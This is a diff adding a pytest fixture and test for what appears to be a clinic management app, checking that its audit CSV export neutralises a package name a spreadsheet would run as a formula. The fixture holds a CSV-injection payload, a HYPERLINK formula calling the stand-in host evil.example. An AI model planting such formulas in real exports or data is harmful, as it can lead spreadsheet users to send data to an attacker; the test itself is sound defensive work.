@@ -76,3 +76,27 @@ def test_command_line_reads_leave_audit_events(troubled, patient):
     assert (events[0].patient_id, int(events[0].object_id)) == (patient.pk, troubled.pk)
     assert AuditEvent.objects.count() == before + 2
     assert verify_chain().intact
+
+
+@pytest.fixture
+def formula_named_package(owner, desk, patient, acu60, clinic):
+    """A package whose name a spreadsheet would run as a formula (OWASP "CSV Injection")."""
+    from tally.clinic.actions import catalog
+
+    package = catalog.do_create_package(acting_user=owner, name='=HYPERLINK("http://evil.example/?x","Open")',
+                                        price="100.00", sessions=5, service_ids=[acu60.pk])
+    sold, _ = sales.do_sell_package(acting_user=desk, patient=patient, package=package, use_first_session=False,
+                                    sold_at=dt.datetime(2026, 3, 1, 15, tzinfo=dt.UTC), payment=("100.00", "card"))
+    appointment = visits.do_book(acting_user=desk, patient=patient, service=acu60,
+                                 starts_at=dt.datetime(2026, 3, 5, 15, tzinfo=dt.UTC))
+    visits.do_check_in(acting_user=desk, appointment=appointment, no_charges=True)
+    return sold
+
+
+def test_audit_csv_neutralises_text_a_spreadsheet_would_run_and_keeps_numbers(formula_named_package, patient):
+    rows = list(csv.reader(io.StringIO(run("audit", "--csv"))))
+    header, row = rows[0], rows[1]
+    cell = dict(zip(header, row, strict=True))
+    assert cell["package"] == '\'=HYPERLINK("http://evil.example/?x","Open")'
+    assert cell["patient_package_id"] == str(formula_named_package.pk)  # a number stays a number
+    assert cell["findings"] == "1" and cell["patient_number"] == patient.patient_number
